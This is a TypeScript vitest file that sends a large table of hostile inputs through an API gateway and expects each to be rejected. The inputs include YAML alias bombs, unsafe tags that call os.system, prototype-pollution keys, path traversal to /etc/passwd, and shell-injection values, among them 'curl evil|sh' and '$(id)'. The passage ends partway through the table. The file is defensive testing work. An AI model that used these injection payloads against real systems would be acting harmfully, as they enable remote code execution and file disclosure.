/**
 * Hostile inputs through the whole gateway (fastify inject: every plugin, parser, validator,
 * planner and renderer, no sockets): one table row per API.md §12 row H1–H32 and BUNDLES.md §15
 * item, each asserting the exact status, error code and message (and details where the spec
 * fixes them). Successful bundles are unzipped and their scripts run against stub CLIs with
 * canary payloads in every string that reaches them. The socket-level rows (H1 without
 * Content-Length, H2, H29 raw, H30) are in hostile-sockets.test.ts.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { parse as parseYaml } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bashSyntaxFailures, canaryPayloads, hostileApp, Ledger, pollutionFindings, runBundleScripts, sandbox, scriptsIn, shellcheckFindings, unzipInto, type Sandbox } from './hostile-support';

const MiB = 1_048_576;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
const RETRYABLE = new Set(['RATE_LIMIT_EXCEEDED', 'INTERNAL_ERROR', 'SERVICE_UNAVAILABLE', 'TIMEOUT']);

interface Req {
  method?: string;
  url: string;
  body?: string | Buffer;
  ct?: string;
  headers?: Record<string, string>;
}
/** `details`: an exact object, 'any' (text the spec leaves free), or 'none' (must be absent). */
interface Exp {
  status: number;
  code?: string;
  message?: string;
  details?: Record<string, unknown> | 'any' | 'none';
  check?: (res: LightMyRequestResponse) => void;
}
type Row = [row: string, name: string, req: Req, exp: Exp];

const ledger = new Ledger('hostile inputs (inject): API.md §12 H1–H32, BUNDLES.md §15');
let app: FastifyInstance;
// Made at load time: the table embeds its canary path.
const box: Sandbox = sandbox();
const tmpBefore = new Set(readdirSync(tmpdir()));
/** Successful bundles, unzipped and executed in the last test. */
const zips: Array<{ name: string; zip: Buffer; inspect?: (root: string) => void }> = [];

// ---------- request builders ----------
const json = (v: unknown) => JSON.stringify(v);
const postRecipe = (body: string | Buffer, ct = 'application/json'): Req => ({ method: 'POST', url: '/v1/recipe', body, ct });
const postQuery = (body: string | Buffer, ct = 'application/json'): Req => ({ method: 'POST', url: '/v1/query', body, ct });
const ref = (patch: Record<string, unknown> = {}) => ({ name: 'gpu-operator', ...patch });
const recipeBody = (...refs: unknown[]) => json({ kind: 'RecipeResult', apiVersion: 'aicr.nvidia.com/v1alpha1', componentRefs: refs.length ? refs : [ref()] });
const postBundle = (query = '', body: string | Buffer = recipeBody(), ct = 'application/json'): Req => ({ method: 'POST', url: `/v1/bundle${query}`, body, ct });
const q = (params: Record<string, string | string[]>) =>
  '?' +
  Object.entries(params)
    .flatMap(([k, v]) => (Array.isArray(v) ? v : [v]).map((x) => `${encodeURIComponent(k)}=${encodeURIComponent(x)}`))
    .join('&');

// ---------- expectations ----------
const bad = (message: string, details: Exp['details'] = 'any', status = 400): Exp => ({ status, code: 'INVALID_REQUEST', message, details });
const RECIPE = bad('Invalid recipe criteria');
const QUERY_BODY = bad('Invalid query request body');
const QUERY_CRITERIA = bad('Invalid query criteria');
const BODY_CRITERIA = bad('Invalid criteria in request body');
const BUNDLE_BODY = bad('Invalid request body');
const SET = bad('Invalid set parameter');
const NODES = bad('nodes must be a non-negative integer', 'none');
const QS = bad('Invalid query string', 'none');
const NOT_FOUND: Exp = { status: 404, code: 'NOT_FOUND', message: 'Selector path not found', details: 'any' };
const ok = (check?: Exp['check']): Exp => ({ status: 200, check });
const okZip = (name: string, inspect?: (root: string) => void): Exp => ({
  status: 200,
  check: (res) => {
    expect(res.headers['content-type']).toBe('application/zip');
    zips.push({ name, zip: res.rawPayload, inspect });
  },
});

const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;
const deepObj = (n: number) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;
const laughs = (levels: number) => {
  const lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i <= levels; i++) lines.push(`a${i}: &a${i} [${Array(9).fill(`*a${i - 1}`).join(',')}]`);
  return `spec: {}\n${lines.join('\n')}`;
};
const padJson = (prefix: string, size: number) => `${prefix}"${'a'.repeat(size - prefix.length - 3)}"}`;
const long = (n: number, c = 'a') => c.repeat(n);

// ---------- the table ----------
function table(canary: string): Row[] {
  const payloads = canaryPayloads(canary);
  const safeSetValues = payloads.filter((p) => !/[\u0000-\u001f]/.test(p));
  const rows: Row[] = [
    // H1: Content-Length present (inject always sends it); chunked and absent are socket rows.
    ['H1', 'recipe body 1 MiB + 1', postRecipe(padJson('{"spec":{},"x":', MiB + 1)), bad('Request body too large', { limit: MiB }, 413)],
    ['H1', 'query body 1 MiB + 1', postQuery(padJson('{"criteria":{},"x":', MiB + 1)), bad('Request body too large', { limit: MiB }, 413)],
    ['H1', 'bundle body 10 MiB + 1', postBundle('', padJson('{"componentRefs":[{"name":"gpu-operator"}],"x":', 10 * MiB + 1)), bad('Request body too large', { limit: 10 * MiB }, 413)],
    ['H1', 'recipe body exactly 1 MiB is accepted', postRecipe(padJson('{"spec":{},"x":', MiB)), ok()],
    ['H1', 'YAML recipe body 1 MiB + 1', postRecipe(`spec: {}\nx: ${long(MiB)}`, 'application/yaml'), bad('Request body too large', { limit: MiB }, 413)],

    // H3: malformed JSON, trailing garbage, NaN/Infinity, invalid UTF-8, empty; wrong content types.
    ['H3', 'recipe: truncated JSON', postRecipe('{"spec":{"service":"eks"'), RECIPE],
    ['H3', 'recipe: trailing garbage', postRecipe('{"spec":{}} x'), RECIPE],
    ['H3', 'recipe: two JSON values', postRecipe('{}{}'), RECIPE],
    ['H3', 'recipe: NaN', postRecipe('{"spec":{"nodes":NaN}}'), RECIPE],
    ['H3', 'recipe: -Infinity', postRecipe('{"spec":{"nodes":-Infinity}}'), RECIPE],
    ['H3', 'recipe: single quotes', postRecipe("{'spec':{}}"), RECIPE],
    ['H3', 'recipe: trailing comma', postRecipe('{"spec":{},}'), RECIPE],
    ['H3', 'recipe: comment', postRecipe('/* x */ {"spec":{}}'), RECIPE],
    ['H3', 'recipe: invalid UTF-8', postRecipe(Buffer.concat([Buffer.from('{"spec":{"service":"'), Buffer.from([0xc3, 0x28]), Buffer.from('"}}')])), RECIPE],
    ['H3', 'recipe: overlong UTF-8 "/"', postRecipe(Buffer.concat([Buffer.from('{"x":"'), Buffer.from([0xc0, 0xaf]), Buffer.from('"}')])), RECIPE],
    ['H3', 'recipe: lone surrogate bytes', postRecipe(Buffer.concat([Buffer.from('{"x":"'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('"}')])), RECIPE],
    ['H3', 'recipe: empty body', postRecipe(''), RECIPE],
    ['H3', 'recipe: YAML sent as application/json', postRecipe('spec:\n  service: eks'), RECIPE],
    ['H3', 'recipe: YAML sent as text/plain (tried as JSON)', postRecipe('spec:\n  service: eks', 'text/plain'), RECIPE],
    ['H3', 'recipe: JSON as text/plain', postRecipe('{"spec":{"service":"eks"}}', 'text/plain'), ok((r) => expect(r.json().criteria.service).toBe('eks'))],
    ['H3', 'recipe: JSON without Content-Type', { method: 'POST', url: '/v1/recipe', body: '{"spec":{"service":"gke"}}' }, ok((r) => expect(r.json().criteria.service).toBe('gke'))],
    ['H3', 'recipe: malformed Content-Type ";;;"', postRecipe('{"spec":{}}', ';;;'), ok()],
    ['H3', 'recipe: multipart Content-Type, JSON body (never 415)', postRecipe('{"spec":{}}', 'multipart/form-data; boundary=x'), ok()],
    ['H3', 'recipe: Content-Type with odd params', postRecipe('{"spec":{}}', 'Application/JSON; charset=utf-16; x="y'), ok()],
    ['H3', 'query: truncated JSON', postQuery('{"criteria":'), QUERY_BODY],
    ['H3', 'query: trailing garbage', postQuery('{"criteria":{}}]'), QUERY_BODY],
    ['H3', 'query: NaN', postQuery('{"criteria":{"nodes":NaN}}'), QUERY_BODY],
    ['H3', 'query: invalid UTF-8', postQuery(Buffer.from([0x7b, 0xff, 0x7d])), QUERY_BODY],
    ['H3', 'query: empty body', postQuery(''), QUERY_BODY],
    ['H3', 'query: JSON without Content-Type (read as YAML)', { method: 'POST', url: '/v1/query', body: '{"criteria":{"service":"eks"},"selector":"criteria.service"}' }, ok((r) => expect(r.json()).toBe('eks'))],
    ['H3', 'bundle: truncated JSON', postBundle('', '{"componentRefs":[{"name":"gpu-operator"}'), BUNDLE_BODY],
    ['H3', 'bundle: trailing garbage', postBundle('', `${recipeBody()}garbage`), BUNDLE_BODY],
    ['H3', 'bundle: Infinity', postBundle('', '{"componentRefs":[{"name":"gpu-operator","order":Infinity}]}'), BUNDLE_BODY],
    ['H3', 'bundle: invalid UTF-8', postBundle('', Buffer.concat([Buffer.from('{"componentRefs":[{"name":"gpu-'), Buffer.from([0xfe]), Buffer.from('"}]}')])), BUNDLE_BODY],
    ['H3', 'bundle: empty body', postBundle('', ''), BUNDLE_BODY],
    ['H3', 'bundle: whitespace body', postBundle('', ' \r\n\t'), BUNDLE_BODY],
    ['H3', 'bundle: YAML body (JSON always)', postBundle('', 'componentRefs:\n  - name: gpu-operator', 'application/yaml'), BUNDLE_BODY],
    ['H3', 'bundle: JSON body labelled YAML (type ignored)', postBundle('', recipeBody(), 'application/x-yaml'), okZip('content-type-ignored')],

    ['H3', 'recipe: JSON with a byte-order mark (as Go: not JSON)', postRecipe('\uFEFF{"spec":{}}'), RECIPE],
    ['H3', 'bundle: JSON with a byte-order mark', postBundle('', `\uFEFF${recipeBody()}`), BUNDLE_BODY],
    ['H3', 'recipe: YAML with a byte-order mark is YAML', postRecipe('\uFEFFspec: {service: eks}', 'application/yaml'), ok((r) => expect(r.json().criteria.service).toBe('eks'))],
    // Type confusion: objects where strings belong must be 400s, never a throw while quoting them.
    ['H3', 'recipe: kind is an object with a non-callable toString', postRecipe('{"kind":{"toString":1}}'), RECIPE],
    ['H3', 'recipe: apiVersion is an object with a non-callable toString', postRecipe('{"apiVersion":{"toString":1,"valueOf":1}}'), RECIPE],
    ['H3', 'recipe YAML: kind {toString: 1}', postRecipe('kind: {toString: 1}', 'application/yaml'), RECIPE],
    ['H3', 'recipe: kind is a list', postRecipe('{"kind":["RecipeCriteria"]}'), RECIPE],
    ['H3', 'query: criteria field is an object with toString', postQuery('{"criteria":{"service":{"toString":1}}}'), BODY_CRITERIA],
    ['H3', 'query: selector is an object with toString', postQuery('{"criteria":{},"selector":{"toString":1}}'), QUERY_BODY],
    ['H3', 'bundle: kind is an object with toString', postBundle('', '{"kind":{"toString":1},"componentRefs":[{"name":"gpu-operator"}]}'), BUNDLE_BODY],

    // H4: malformed YAML.
    ['H4', 'recipe: unclosed flow sequence', postRecipe('spec: [', 'application/yaml'), RECIPE],
    ['H4', 'recipe: unclosed flow map', postRecipe('spec: {service: eks', 'application/x-yaml'), RECIPE],
    ['H4', 'recipe: tab indentation', postRecipe('spec:\n\tservice: eks', 'text/yaml'), RECIPE],
    ['H4', 'recipe: unterminated quote', postRecipe('spec: {service: "eks}', 'application/yaml'), RECIPE],
    ['H4', 'recipe: bad indentation', postRecipe('spec:\n  service: eks\n accelerator: h100', 'application/yaml'), RECIPE],
    ['H4', 'query: malformed YAML', postQuery('criteria: [\n', 'text/plain'), QUERY_BODY],
    ['H4', 'query: tab indentation', postQuery('criteria:\n\tservice: eks'), { ...QUERY_BODY }],

    ['H4', 'recipe: complex (collection) mapping key', postRecipe('? [a, b]\n: 1\nspec: {}', 'application/yaml'), RECIPE],
    ['H4', 'recipe: complex (map) mapping key', postRecipe('? {a: 1}\n: 1\nspec: {}', 'application/yaml'), RECIPE],

    // H5: alias bombs, alias count, expanded size, merge-key tricks.
    ['H5', 'recipe: billion laughs (9^12)', postRecipe(laughs(12), 'application/yaml'), RECIPE],
    ['H5', 'query: billion laughs', postQuery(laughs(9).replace('spec: {}', 'criteria: {}'), 'application/yaml'), QUERY_BODY],
    ['H5', 'recipe: 101 aliases of a scalar', postRecipe(`a: &a x\nb: [${Array(101).fill('*a').join(',')}]\nspec: {}`, 'application/yaml'), RECIPE],
    ['H5', 'recipe: 100 aliases of a scalar are fine', postRecipe(`a: &a x\nb: [${Array(100).fill('*a').join(',')}]\nspec: {}`, 'application/yaml'), ok()],
    ['H5', 'recipe: 8 aliases of a 200 kB node (expanded size over 1 MiB)', postRecipe(`a: &a "${long(200_000)}"\nb: [${Array(8).fill('*a').join(',')}]\nspec: {}`, 'application/yaml'), RECIPE],
    ['H5', 'recipe: merge-key bomb (<< with many aliases)', postRecipe(`a: &a {x: 1}\n${Array.from({ length: 120 }, (_, i) => `m${i}: {<<: *a}`).join('\n')}\nspec: {}`, 'application/yaml'), RECIPE],
    ['H5', 'recipe: << is a plain key (YAML 1.2, no merge)', postRecipe('base: &b {service: gke}\nspec:\n  <<: *b\n  service: eks', 'application/yaml'), ok((r) => expect(r.json().criteria.service).toBe('eks'))],
    ['H5', 'recipe: << merge cannot smuggle spec values', postRecipe('base: &b {service: gke}\nspec:\n  <<: *b', 'application/yaml'), ok((r) => expect(r.json().criteria.service).toBe('any'))],
    ['H5', 'recipe: << carrying __proto__', postRecipe('p: &p {__proto__: {polluted: 1}}\nspec:\n  <<: *p', 'application/yaml'), RECIPE],
    ['H5', 'recipe: alias to a __proto__ key', postRecipe('k: &k __proto__\nspec: {}\nx: {*k : {polluted: 1}}', 'application/yaml'), RECIPE],
    ['H5', 'recipe: self-referencing anchor', postRecipe('a: &a [*a]\nspec: {}', 'application/yaml'), RECIPE],

    // H6: tags.
    ...(
      [
        ['!!js/function', 'x: !!js/function "function(){return 1}"'],
        ['!!js/undefined', 'x: !!js/undefined ~'],
        ['!!python/object/apply', 'x: !!python/object/apply:os.system ["touch /tmp/x"]'],
        ['!!python/object', 'x: !!python/object:__main__.X {}'],
        ['unknown !tag', 'x: !custom {}'],
        ['verbatim tag', 'x: !<tag:yaml.org,2002:js/function> "f"'],
        ['%TAG directive', '%TAG ! tag:evil.example,2000:\n---\nx: !x {}'],
        ['!!binary', 'x: !!binary aGVsbG8='],
        ['!!binary under %YAML 1.1', '%YAML 1.1\n---\nx: !!binary aGVsbG8='],
        ['!!set', 'x: !!set {a, b}'],
        ['!!omap', 'x: !!omap [a: 1]'],
        ['!!timestamp', 'x: !!timestamp 2001-12-14'],
      ] as const
    ).map(([n, body]): Row => ['H6', `recipe: ${n}`, postRecipe(`spec: {}\n${body}`, 'application/yaml'), RECIPE]),
    ['H6', 'query: !!js/function', postQuery('criteria: !!js/function "f"', 'text/yaml'), QUERY_BODY],

    // H7: multi-document.
    ['H7', 'recipe: two documents', postRecipe('spec: {}\n---\nspec: {service: eks}', 'application/yaml'), RECIPE],
    ['H7', 'recipe: document end then another', postRecipe('spec: {}\n...\n---\nspec: {}', 'application/yaml'), RECIPE],
    ['H7', 'query: two documents', postQuery('criteria: {}\n---\ncriteria: {}', 'text/yaml'), QUERY_BODY],

    // H8: duplicate keys.
    ['H8', 'recipe: duplicate top-level key', postRecipe('spec: {}\nspec: {service: eks}', 'application/yaml'), RECIPE],
    ['H8', 'recipe: duplicate nested key', postRecipe('spec:\n  service: eks\n  service: gke', 'application/yaml'), RECIPE],
    ['H8', 'recipe: duplicate key, different quoting', postRecipe('spec: {service: eks, "service": gke}', 'application/yaml'), RECIPE],
    ['H8', 'query: duplicate key', postQuery('criteria: {}\ncriteria: {service: eks}', 'text/yaml'), QUERY_BODY],

    // H9: top level not an object.
    ...['null', '[]', '"x"', '5', 'true', '[{"spec":{}}]'].map((b): Row => ['H9', `recipe JSON ${b}`, postRecipe(b), RECIPE]),
    ...['~', '- spec: {}', 'just text', '42'].map((b): Row => ['H9', `recipe YAML ${b}`, postRecipe(b, 'application/yaml'), RECIPE]),
    ...['null', '[]', '"x"', '5'].map((b): Row => ['H9', `query ${b}`, postQuery(b), QUERY_BODY]),
    ...['null', '[]', '"x"', '5', 'false'].map((b): Row => ['H9', `bundle ${b}`, postBundle('', b), BUNDLE_BODY]),
    ['H9', 'bundle: componentRefs not a list', postBundle('', '{"componentRefs":{"name":"gpu-operator"}}'), BUNDLE_BODY],
    ['H9', 'bundle: wrapper with recipe null', postBundle('', '{"recipe":null}'), bad('Recipe is required', 'none')],
    ['H9', 'bundle: no componentRefs', postBundle('', '{}'), bad('Recipe must contain at least one component reference', 'none')],

    // H10: nesting.
    ['H10', 'recipe JSON: 65 nested arrays', postRecipe(`{"spec":{},"x":${deep(64)}}`), RECIPE],
    ['H10', 'recipe JSON: 64 levels are fine', postRecipe(`{"spec":{},"x":${deep(62)}}`), ok()],
    ['H10', 'recipe JSON: 65 nested objects', postRecipe(`{"spec":{},"x":${deepObj(64)}}`), RECIPE],
    ['H10', 'recipe JSON: 100 000 nested arrays', postRecipe(`{"x":${deep(100_000)}}`), RECIPE],
    ['H10', 'recipe YAML: 65 nested flow lists', postRecipe(`spec: {}\nx: ${deep(65)}`, 'application/yaml'), RECIPE],
    ['H10', 'recipe YAML: 20 000 nested flow lists', postRecipe(`x: ${deep(20_000)}`, 'application/yaml'), RECIPE],
    ['H10', 'recipe YAML: 70 nested block maps', postRecipe(Array.from({ length: 70 }, (_, i) => `${' '.repeat(i)}a:`).join('\n') + ' 1', 'application/yaml'), RECIPE],
    ['H10', 'query JSON: 65 levels', postQuery(`{"criteria":{},"x":${deep(65)}}`), QUERY_BODY],
    ['H10', 'bundle: 65 levels in overrides', postBundle('', recipeBody(ref({ overrides: JSON.parse(deepObj(65)) }))), BUNDLE_BODY],
    ['H10', 'bundle: 100 000 levels', postBundle('', `{"componentRefs":[{"name":"gpu-operator","overrides":{"x":${deep(100_000)}}}]}`), BUNDLE_BODY],

    // H11: prototype poisoning in bodies.
    ['H11', 'recipe JSON: __proto__ at top', postRecipe('{"__proto__":{"polluted":1},"spec":{}}'), RECIPE],
    ['H11', 'recipe JSON: __proto__ in spec', postRecipe('{"spec":{"__proto__":{"service":"eks"}}}'), RECIPE],
    ['H11', 'recipe JSON: escaped \\u005f_proto__', postRecipe('{"spec":{"\\u005f_proto__":{"polluted":1}}}'), RECIPE],
    ['H11', 'recipe JSON: constructor.prototype', postRecipe('{"spec":{},"x":{"constructor":{"prototype":{"polluted":1}}}}'), RECIPE],
    ['H11', 'recipe JSON: constructor.prototype null', postRecipe('{"constructor":{"prototype":null}}'), RECIPE],
    ['H11', 'recipe JSON: plain constructor/prototype keys are data', postRecipe('{"spec":{},"constructor":"x","prototype":{"a":1}}'), ok()],
    ['H11', 'recipe YAML: __proto__', postRecipe('__proto__: {polluted: 1}\nspec: {}', 'application/yaml'), RECIPE],
    ['H11', 'recipe YAML: quoted "__proto__"', postRecipe('spec: {"__proto__": {isAdmin: true}}', 'application/yaml'), RECIPE],
    ['H11', 'recipe YAML: explicit ? __proto__', postRecipe('? __proto__\n: {polluted: 1}', 'application/yaml'), RECIPE],
    ['H11', 'recipe YAML: constructor.prototype', postRecipe('x:\n  constructor:\n    prototype: {polluted: 1}', 'application/yaml'), RECIPE],
    ['H11', 'query JSON: __proto__ in criteria', postQuery('{"criteria":{"__proto__":{"polluted":1}}}'), QUERY_BODY],
    ['H11', 'query YAML: constructor.prototype', postQuery('criteria: {constructor: {prototype: {polluted: 1}}}', 'text/yaml'), QUERY_BODY],
    ['H11', 'bundle: __proto__ at top', postBundle('', `{"__proto__":{"polluted":1},${recipeBody().slice(1)}`), BUNDLE_BODY],
    ['H11', 'bundle: __proto__ in a componentRef', postBundle('', '{"componentRefs":[{"name":"gpu-operator","__proto__":{"isAdmin":true}}]}'), BUNDLE_BODY],
    ['H11', 'bundle: __proto__ in overrides', postBundle('', '{"componentRefs":[{"name":"gpu-operator","overrides":{"a":{"__proto__":{"polluted":1}}}}]}'), BUNDLE_BODY],
    ['H11', 'bundle: constructor.prototype in overrides', postBundle('', recipeBody(ref({ overrides: { constructor: { prototype: { polluted: 1 } } } }))), BUNDLE_BODY],
    ['H11', 'bundle: __proto__ in criteria', postBundle('', '{"criteria":{"__proto__":{"service":"eks"}},"componentRefs":[{"name":"gpu-operator"}]}'), BUNDLE_BODY],

    // H12: set paths reaching prototypes, empty segments.
    ...['__proto__.polluted', '__proto__', 'constructor.prototype.polluted', 'a.constructor', 'a.prototype', 'a..b', '.a', 'a.', '.', 'a.__proto__.b'].map(
      (path): Row => ['H12', `set path ${path}`, postBundle(q({ set: `gpuoperator:${path}=1` })), SET],
    ),

    // H13: set syntax and limits.
    ...(
      [
        ['newline in value', 'gpuoperator:a=b\nc'],
        ['CR in value', 'gpuoperator:a=b\rinjected: true'],
        ['tab in value', 'gpuoperator:a=b\tc'],
        ['NUL-free control char in path', 'gpuoperator:a\u0001b=1'],
        ['DEL in key', 'gpu\u007foperator:a=1'],
        ['newline in path', 'gpuoperator:a\nb=1'],
        ['path of 257 characters', `gpuoperator:${long(257)}=1`],
        ['33 path segments', `gpuoperator:${Array(33).fill('a').join('.')}=1`],
        ['value of 4097 characters', `gpuoperator:a=${long(4097)}`],
        ['no colon', 'gpuoperator.a=1'],
        ['no =', 'gpuoperator:a'],
        ['empty key', ':a=1'],
        ['empty path', 'gpuoperator:=1'],
        ['empty value', 'gpuoperator:a='],
        ['inf', 'gpuoperator:a=inf'],
        ['-Infinity', 'gpuoperator:a=-Infinity'],
        ['NaN', 'gpuoperator:a=NaN'],
        ['1e999', 'gpuoperator:a=1e999'],
        ['0x1p99999', 'gpuoperator:a=0x1p99999'],
        ['unknown key', 'no-such-component:a=1'],
        ['key with shell metacharacters', '$(id):a=1'],
        ['key __proto__', '__proto__:a=1'],
      ] as const
    ).map(([n, s]): Row => ['H13', `set ${n}`, postBundle(q({ set: s })), SET]),
    ['H13', 'set path through an existing list', postBundle(q({ set: 'gpuoperator:toolkit.env.x=1' }), recipeBody(ref({ valuesFile: 'components/gpu-operator/values.yaml' }))), SET],
    ['H13', 'set path through an existing scalar', postBundle(q({ set: 'gpuoperator:dcgm.enabled.x=1' }), recipeBody(ref({ valuesFile: 'components/gpu-operator/values.yaml' }))), SET],
    ['H13', 'set: 201 parameters', postBundle(q({ set: Array.from({ length: 201 }, (_, i) => `gpuoperator:a${i}=1`) })), SET],
    ['H13', 'set: 200 parameters are fine', postBundle(q({ set: Array.from({ length: 200 }, (_, i) => `gpuoperator:a${i}=1`) })), okZip('200-sets')],
    ['H13', 'set: value 4096 characters is fine', postBundle(q({ set: `gpuoperator:a=${long(4096)}` })), okZip('long-set')],

    // H14: selectors never reach prototypes.
    ...['__proto__', '__proto__.polluted', 'constructor', 'constructor.name', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'components.__proto__', 'criteria.constructor', 'components.gpu-operator.values.__proto__', 'kind.length', 'deploymentOrder.0', 'deploymentOrder.length', 'a..b', 'kind.', '..'].map(
      (s): Row => ['H14', `GET selector ${s}`, { url: `/v1/query${q({ service: 'eks', selector: s })}` }, NOT_FOUND],
    ),
    ['H14', 'POST selector __proto__', postQuery('{"criteria":{},"selector":"__proto__"}'), NOT_FOUND],
    ['H14', 'POST selector constructor.prototype', postQuery('criteria: {}\nselector: constructor.prototype', 'text/yaml'), NOT_FOUND],
    ['H14', 'POST selector not a string', postQuery('{"criteria":{},"selector":{"__proto__":1}}'), QUERY_BODY],

    // H15: selectors must be label keys/values.
    ...(
      [
        ['system-node-selector', 'Invalid system-node-selector'],
        ['accelerated-node-selector', 'Invalid accelerated-node-selector'],
        ['workload-selector', 'Invalid workload-selector parameter'],
      ] as const
    ).flatMap(([param, message]) =>
      ['=v', '__proto__=x', 'a b=c', 'a=b c', 'a=b\nc: injected', 'a\n=b', `${long(64)}=v`, `a=${long(64)}`, 'novalue', '--set=x', 'a=$(id)', 'a=`id`', 'kеy=v'].map(
        (v): Row => ['H15', `${param} ${JSON.stringify(v).slice(0, 40)}`, postBundle(q({ [param]: v })), bad(message)],
      ),
    ),

    ['H15', 'a constructor label key is data, not a prototype', postBundle(q({ 'accelerated-node-selector': 'constructor=x', 'system-node-selector': 'prototype=y' })), okZip('constructor-label', (root) => {
      const values = parseYaml(readFileSync(join(root, 'gpu-operator/values.yaml'), 'utf8'));
      expect(values.daemonsets.nodeSelector).toEqual({ constructor: 'x' });
      expect(values.operator.nodeSelector).toEqual({ prototype: 'y' });
    })],

    // H16: tolerations and the workload gate.
    ...(
      [
        ['system-node-toleration', 'Invalid system-node-toleration'],
        ['accelerated-node-toleration', 'Invalid accelerated-node-toleration'],
        ['workload-gate', 'Invalid workload-gate parameter'],
      ] as const
    ).flatMap(([param, message]) =>
      ['__proto__:NoSchedule', 'a b:NoSchedule', 'k=v:Bogus', 'k=v:noschedule', 'k=v', 'k:v:NoSchedule', 'k=v\n:NoSchedule', '=v:NoSchedule', `${long(64)}:NoSchedule`, 'k=$(id):NoSchedule', ':NoSchedule'].map(
        (v): Row => ['H16', `${param} ${JSON.stringify(v).slice(0, 40)}`, postBundle(q({ [param]: v })), bad(message)],
      ),
    ),

    // H17: component names.
    ...['../x', 'a/b', 'a\\b', '.', '..', '', 'a\u0000b', '/abs', long(54), '-x', '--values', 'Gpu-operator', 'a_b', 'README.md', 'deploy.sh', 'checksums.txt', 'gpu‐operator', 'a b', 'a;b', '$(id)', '`id`', 'x\n', 'a-'].map(
      (name): Row => ['H17', `name ${JSON.stringify(name).slice(0, 30)}`, postBundle('', recipeBody(ref({ name }))), BUNDLE_BODY],
    ),
    ['H17', 'name of 53 characters is fine', postBundle('', recipeBody({ name: long(53), chart: 'x', source: 'https://charts.example.com/x', version: '1.0.0' })), okZip('name-53')],
    ['H17', 'name not a string', postBundle('', recipeBody({ name: ['gpu-operator'] })), BUNDLE_BODY],

    // H18, H19.
    ['H18', 'duplicate names', postBundle('', recipeBody(ref(), ref())), BUNDLE_BODY],
    ['H19', '101 componentRefs', postBundle('', recipeBody(...Array.from({ length: 101 }, (_, i) => ({ name: `c${i}` })))), BUNDLE_BODY],

    // H20: valuesFile / manifestFiles confinement.
    ...[
      '/etc/passwd',
      '../../../../etc/passwd',
      'components/gpu-operator/../cert-manager/values.yaml',
      'components/cert-manager/values.yaml',
      'components/gpu-operator/values.yaml\u0000.txt',
      'components\\gpu-operator\\values.yaml',
      'components/gpu-operator/values-missing.yaml',
      'components/gpu-operator/manifests/dcgm-exporter.yaml',
      'components/gpu-operator/sub/values.yaml',
      'registry.yaml',
      'file:///etc/passwd',
    ].map((v): Row => ['H20', `valuesFile ${JSON.stringify(v).slice(0, 50)}`, postBundle('', recipeBody(ref({ valuesFile: v }))), BUNDLE_BODY]),
    ...[
      '/etc/passwd',
      'components/gpu-operator/manifests/../../cert-manager/values.yaml',
      'components/cert-manager/manifests/x.yaml',
      'components/gpu-operator/manifests/dcgm-exporter.yaml\u0000',
      'components/gpu-operator/manifests/missing.yaml',
      'components/gpu-operator/manifests/sub/x.yaml',
      'components/gpu-operator/manifests/.yaml',
      'components/gpu-operator/values.yaml',
    ].map((v): Row => ['H20', `manifestFiles ${JSON.stringify(v).slice(0, 50)}`, postBundle('', recipeBody(ref({ manifestFiles: [v] }))), BUNDLE_BODY]),
    ['H20', 'manifestFiles: the same entry twice (basename collision)', postBundle('', recipeBody(ref({ manifestFiles: ['components/gpu-operator/manifests/dcgm-exporter.yaml', 'components/gpu-operator/manifests/dcgm-exporter.yaml'] }))), BUNDLE_BODY],
    ['H20', 'own values and manifests are fine', postBundle('', recipeBody(ref({ valuesFile: 'components/gpu-operator/values-eks-training.yaml', manifestFiles: ['components/gpu-operator/manifests/dcgm-exporter.yaml'] }))), okZip('own-files')],

    // H21: shell-interpolated component fields.
    ...(
      [
        ['namespace', ['ns$(id)', 'ns;id', '--kubeconfig=/x', 'NS', 'ns\n', long(64), 'a b', "ns'x", '`id`']],
        ['version', ['1.0 --post-renderer /bin/sh', '$(id)', '--devel', '1.0;id', '`id`', long(129), '1.0\nid', "1.0'", '-1']],
        ['tag', ['v1;id', '$(id)', '--x', 'a b']],
        ['chart', ['../etc', 'x/../y', 'a b', '--repo', '$(id)', '/abs', 'a;b', long(129)]],
        ['source', ['https://x.example/charts; curl evil|sh #', 'https://x.example/$(id)', 'file:///etc/passwd', '--repo=https://x', 'https://x.example/a b', 'https://x.example/a\nb', "https://x.example/'", 'javascript:alert(1)', 'https://x.example/`id`', 'https://x.example/a&b', 'https://x.example/a>b', 'ftp://x.example/c']],
        ['path', ['../x', '/abs', 'a;b', '$(id)', 'a/../../b', 'a b', 'a\nb']],
      ] as const
    ).flatMap(([field, values]) =>
      values.map((v): Row => ['H21', `${field} ${JSON.stringify(v).slice(0, 40)}`, postBundle('', recipeBody(ref({ [field]: v }))), BUNDLE_BODY]),
    ),
    ['H21', 'seed repository with metacharacters', postBundle('', recipeBody(ref({ repository: 'https://x.example/c;id' }))), BUNDLE_BODY],
    ['H21', 'manifestUrls not https', postBundle('', recipeBody(ref({ manifestUrls: ['http://x.example/a.yaml;id'] }))), BUNDLE_BODY],

    // H22: repo.
    ...[
      'https://good.example/r.git\n    evil: injected',
      'ftp://x.example/r.git',
      'https://x.example/$(id)',
      'https://x.example/`id`',
      'https://x.example/"q"',
      "https://x.example/'q'",
      `https://x.example/${long(2040)}`,
      'git@host:path with space',
      '--upload-pack=touch /tmp/x',
      'file:///etc/passwd',
    ].map((v): Row => ['H22', `repo ${JSON.stringify(v).slice(0, 40)}`, postBundle(q({ deployer: 'argocd', repo: v })), bad('Invalid repo parameter')]),
    ['H22', 'repo with glob and brace characters stays one YAML scalar', postBundle(q({ deployer: 'argocd', repo: 'https://good.example/{a,b}/*?x=[1]#~' })), okZip('argocd-odd-repo', (root) => {
      const doc = parseYaml(readFileSync(join(root, 'app-of-apps.yaml'), 'utf8'));
      expect(doc.spec.source.repoURL).toBe('https://good.example/{a,b}/*?x=[1]#~');
    })],

    // H23: request values reach YAML through the serializer and scripts never.
